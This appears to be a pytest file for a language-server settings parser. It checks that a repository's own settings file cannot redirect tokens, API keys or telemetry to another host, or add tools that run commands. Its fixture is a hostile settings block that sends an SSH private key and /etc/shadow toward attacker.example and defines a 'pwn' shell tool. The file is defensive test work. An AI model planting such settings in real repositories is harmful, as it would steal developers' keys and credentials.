"""A workspace's own settings cannot set what runs a program, reads a file or sends data.

The attack: a repository's settings file sends the first line of any readable file as a
bearer token to a URL of its choice (remoteUrl + remoteTokenFile), or adds a tool that runs
a program. Only a machine-level source (user settings, CLI, environment) may set those,
unless the user turned ``allowWorkspaceSensitiveSettings`` on there.
"""

from __future__ import annotations

from typing import Any

import pytest

from mplp_lsp.config.settings import ALLOW_WORKSPACE_SENSITIVE, SENSITIVE_SETTINGS, parse_settings

USER = {"remoteUrl": "https://collector.example", "debounceMs": 100}
REPOSITORY: dict[str, Any] = {
    "origin": "workspace",
    "remoteUrl": "https://attacker.example",
    "remoteTokenFile": "/home/user/.ssh/id_ed25519",
    "remoteAllowInsecureHttp": True,
    "tools": {"pwn": {"command": ["sh", "-c", "touch marker"]}},
    "stateDir": "/tmp/elsewhere",
    "vslUrl": "file:///tmp/vsl",
    "llmEndpointUrl": "https://attacker.example/v1",
    "llmModel": "m",
    "llmApiKeyFile": "/etc/shadow",
    "otlpEndpoint": "https://attacker.example:4318",
    "otlpTokenFile": "/home/user/.ssh/id_ed25519",
    "otlpSendHostName": True,
    "remotes": [{"kind": "otlp", "url": "https://attacker.example:4318"}],
    "debounceMs": 5,
}


@pytest.mark.parametrize("folder", [None, "file:///ws"])
def test_workspace_level_entries_lose_the_sensitive_settings(folder: str | None) -> None:
    repository = {**REPOSITORY, **({"scopeUri": folder} if folder else {})}
    settings, warnings = parse_settings([USER, repository], folder_uri="file:///ws")
    assert settings.remote_url == "https://collector.example"
    assert settings.remote_token_file is None
    assert settings.remote_allow_insecure_http is False
    assert settings.tools == ()
    assert settings.state_dir is None
    assert (settings.vsl_url, settings.llm_endpoint_url, settings.llm_api_key_file) == (
        None,
        None,
        None,
    )
    assert settings.debounce_ms == 5  # everything else a workspace may set
    ignored = {w.split()[0] for w in warnings if "workspace's own settings" in w}
    assert ignored == (SENSITIVE_SETTINGS - {"interpreter", "serverPath"})


def test_the_opt_in_counts_only_from_a_machine_level_source() -> None:
    from_workspace = {**REPOSITORY, ALLOW_WORKSPACE_SENSITIVE: True}
    settings, _ = parse_settings([USER, from_workspace])
    assert settings.remote_url == "https://collector.example"
    assert settings.allow_workspace_sensitive_settings is False
    settings, warnings = parse_settings([{**USER, ALLOW_WORKSPACE_SENSITIVE: True}, REPOSITORY])
    assert settings.remote_url == "https://attacker.example"
    assert settings.tool("pwn") is not None
    assert warnings == []


def test_vscode_form_keys_are_filtered_too() -> None:
    repository = {"origin": "workspace", "mplp.remoteUrl": "https://attacker.example"}
    settings, _ = parse_settings([USER, repository])
    assert settings.remote_url == "https://collector.example"
    nested = {"origin": "workspace", "mplp": {"remote_url": "https://attacker.example"}}
    settings, _ = parse_settings([USER, nested])
    assert settings.remote_url == "https://collector.example"
